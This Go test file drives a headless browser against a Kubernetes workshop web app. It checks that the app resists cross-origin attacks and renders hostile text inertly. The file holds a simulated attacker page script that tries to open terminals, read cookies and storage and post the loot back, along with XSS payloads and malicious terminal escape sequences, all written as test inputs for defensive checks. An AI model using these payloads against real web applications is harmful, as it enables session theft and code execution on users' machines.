//go:build browser

package web

import (
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/k8s-go/workshop/internal/fatal"
)

// An otherPort is a server on another port of this machine: of another user, or of a pod
// behind kubectl port-forward. The learner's browser comes to its page.
type otherPort struct {
	*httptest.Server
	mu      sync.Mutex
	headers http.Header // all that the browser has sent
	told    string      // by its page
}

// beStranger serves one page with this script.
func beStranger(t *testing.T, script string) *otherPort {
	t.Helper()
	s := &otherPort{headers: http.Header{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		s.mu.Lock()
		defer s.mu.Unlock()
		for name, values := range r.Header {
			s.headers[name] = append(s.headers[name], values...)
		}
		s.told += string(body)
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<!doctype html><title>Stranger</title><link rel=icon href=data:,><script type=module>%s</script>", script)
	}))
	t.Cleanup(s.Close)
	return s
}

// A server on another port of 127.0.0.1 learns nothing that opens anything, and its page
// reaches nothing in the learner's browser.
func TestBrowserOtherPort(t *testing.T) {
	t.Parallel()
	c := serve(t, Options{Workspace: clone(t, "$ true"), Env: os.Environ()})
	s := beStranger(t, fmt.Sprintf(`
		const page = %q;
		const tries = [
			() => fetch(page + '/api/terminals', {method: 'POST', mode: 'no-cors', credentials: 'include'}),
			() => fetch(page + '/api/terminals', {method: 'POST', credentials: 'include'}),
			() => fetch(page + '/api/steps', {credentials: 'include'}).then((r) => r.text()),
			() => new Promise((done, failed) => {
				const socket = new WebSocket(page.replace('http', 'ws') + '/api/terminals/1/ws');
				socket.onopen = () => done('a terminal');
				socket.onerror = failed;
			}),
		];
		const got = [document.referrer, document.cookie, window.name, JSON.stringify({...sessionStorage, ...localStorage})];
		for (const attempt of tries) got.push(await attempt().catch(() => ''));
		await fetch('/told', {method: 'POST', body: got.join('\n')});
		document.title = 'Told';
	`, c.base))
	b := open(t, c, "/")
	b.ready(1)
	b.do("going to the stranger", chromedp.Navigate(s.URL))
	b.until(`document.title === 'Told'`)
	b.forgive()

	s.mu.Lock()
	learned := maps.Clone(s.headers)
	if strings.Contains(s.told, "a terminal") || strings.Contains(s.told, c.token) {
		t.Errorf("the stranger's page has got %q", s.told)
	}
	s.mu.Unlock()
	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, c.base+"/api/terminals", nil)
	fatal.If(t, err)
	maps.Copy(r.Header, learned)
	r.Header.Set("Origin", c.base) // which a program can claim
	r.Header.Del("Sec-Fetch-Site")
	answer, err := http.DefaultTransport.RoundTrip(r)
	fatal.If(t, err)
	_ = answer.Body.Close()
	if answer.StatusCode != http.StatusUnauthorized {
		t.Errorf("with what the stranger has learned, a new terminal is answered with %s; the browser sent %v", answer.Status, learned)
	}
	if list := c.terminals(); len(list) != 1 {
		t.Errorf("there are the terminals %v, want the learner's alone", list)
	}
}

// Each of the page's headers keeps out what it is for.
func TestBrowserHeaders(t *testing.T) {
	t.Parallel()
	c := serve(t, Options{Workspace: clone(t, "$ true"), Env: os.Environ()})
	s := beStranger(t, fmt.Sprintf(`
		const page = %q;
		const frame = document.createElement('iframe');
		frame.src = page;
		document.body.append(frame);
		await new Promise((done) => { frame.onload = done; });
		const read = await fetch(page + '/', {mode: 'no-cors'}).then(() => 'read', () => 'refused');
		await fetch('/told', {method: 'POST', body: read});
		document.title = 'Told';
	`, c.base))
	b := open(t, c, "/")
	b.ready(1)
	// connect-src: a script in the page could tell nobody.
	s.mu.Lock()
	clear(s.headers)
	s.mu.Unlock()
	b.run(fmt.Sprintf(`fetch(%q, {mode: 'no-cors', headers: {Accept: 'secret'}}).catch(() => {})`, s.URL))
	s.mu.Lock()
	if len(s.headers) > 0 {
		t.Errorf("connect-src: a script of the page has reached a stranger, who got %v", s.headers)
	}
	s.mu.Unlock()
	b.do("going to the stranger", chromedp.Navigate(s.URL))
	b.until(`document.title === 'Told'`)
	s.mu.Lock()
	if s.told != "refused" {
		t.Errorf("Cross-Origin-Resource-Policy: the page was %s by a stranger's", s.told)
	}
	s.mu.Unlock()
	tree, err := chromedp.Call(b.ctx, cdppage.GetFrameTree, chromedp.Void{})
	fatal.If(t, err)
	if frames := tree.FrameTree.ChildFrames; len(frames) != 1 || frames[0].Frame.UnreachableURL == "" {
		t.Errorf("frame-ancestors: a stranger's page has ours in a frame: %+v", frames)
	}
	// Cross-Origin-Opener-Policy: who opens the page does not keep a hold on it.
	b.run(fmt.Sprintf(`document.onclick = () => { window.opened = window.open(%q); }`, c.base))
	b.click("body")
	b.until(`window.opened && window.opened.closed`)
	b.forgive()
}

// forgive forgets what the browser has said: a refusal that the test wants.
func (b *tab) forgive() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.errors = nil
}

// A hostile file, object name, User-Agent and log are shown as text: no script of theirs
// runs, and they leave their box in no way.
func TestBrowserHostileText(t *testing.T) {
	t.Parallel()
	const evil = `<img src=x onerror=hacked()><script>hacked()</script><style>body{display:none}</style>"'>` + "`${hacked()}`"
	ws := clone(t, "$ true")
	for name, text := range map[string]string{"evil.html": evil, "evil.go": "package main // " + evil, "evil.yaml": evil, evil[:27] + ".md": "x"} {
		fatal.If(t, os.WriteFile(filepath.Join(ws.Root, "01-one", name), []byte(text), 0o600))
	}
	fatal.If(t, os.WriteFile(filepath.Join(ws.Root, "log"), []byte(evil+"\x1b]8;;javascript:hacked()\x07link\x1b]8;;\x07\x1b]0;"+evil+"\x07\x1b]52;c;aGFja2Vk\x07\nthe end\n"), 0o600))
	fatal.If(t, os.WriteFile(filepath.Join(ws.Root, "evil"), []byte(evil), 0o600))
	// A program's name ends at a space or a slash.
	fatal.If(t, os.WriteFile(filepath.Join(ws.Root, "agent"), []byte("<img\tsrc=x\tonerror=hacked()>"), 0o600))
	_, c := begin(t, "", &ws)
	b := open(t, c, "/")
	b.ready(1)
	const text = "onerror=hacked()"
	stays := func(what, selector string) {
		t.Helper()
		b.until(fmt.Sprintf(`[...document.querySelectorAll(%q)].some((e) => e.textContent.includes(%q))`, selector, text))
		if got := eval[[]string](b, `[...document.querySelectorAll('img, #file style, #xray style, [onerror]')].map((e) => e.outerHTML.slice(0, 100)).concat(document.title.includes('onerror') ? [document.title] : [], document.documentElement.scrollWidth > innerWidth ? ['wider than the window'] : [])`); len(got) > 0 {
			t.Errorf("%s is more than text: %v", what, got)
		}
	}
	for _, file := range []string{"01-one/evil.html", "01-one/evil.go", "01-one/evil.yaml", "01-one"} {
		b.run(fmt.Sprintf(`import('/static/app.js').then(({openFile}) => openFile(%q))`, file))
		stays(file, "#file")
	}
	b.click("#tab-xray")
	b.click(`.screen[data-terminal="1"]`)
	b.keys("cat log", kb.Enter)
	b.until(shows(1, "the end"))
	stays("the log", ".xterm-rows")
	// What a request says of itself is the sender's own choice.
	b.keys(`server=$(kubectl config view --raw -o jsonpath='{.clusters[0].cluster.server}'); name=$(jq -sRr @uri evil)`, kb.Enter)
	b.keys(`curl -sk -A "$(cat agent)" "$server/api/v1/namespaces/$name/configmaps/$name" >/dev/null; echo sent-$((6*7))`, kb.Enter)
	b.until(shows(1, "sent-42"))
	stays("the User-Agent", ".programs")
	stays("the name of an object", "#xray-requests tbody")
	if eval[bool](b, `document.body.innerHTML.includes('<img')`) {
		t.Error("there is an img in the page")
	}
}
